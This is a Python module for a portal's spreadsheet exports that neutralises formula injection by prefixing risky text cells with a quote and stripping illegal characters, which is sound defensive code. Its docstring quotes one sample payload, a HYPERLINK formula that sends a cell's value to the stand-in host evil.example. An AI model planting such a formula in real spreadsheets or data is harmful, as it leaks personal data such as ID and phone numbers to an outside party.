"""Cells that stay data in Excel, WPS and LibreOffice: spreadsheet formula injection.

An applicant, a subscriber or a clerk can type ``=HYPERLINK("http://evil.example/?d="&A2, …)``;
opened by an officer next to ID and phone columns, a live formula leaks them. Every xlsx
and CSV the portal writes passes each text cell through :func:`safe_cell` (OWASP's rule:
a value starting with ``= + - @``, a tab or a carriage return is prefixed with ``'``).
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# Characters openpyxl refuses (XML 1.0 forbids them): one stray \x01 must not break an export.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value):
    """``value`` as a spreadsheet may show it: numbers and dates untouched, text defused."""
    if not isinstance(value, str):
        return value
    value = _ILLEGAL.sub("", value)
    if value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values):
    return [safe_cell(v) for v in values]
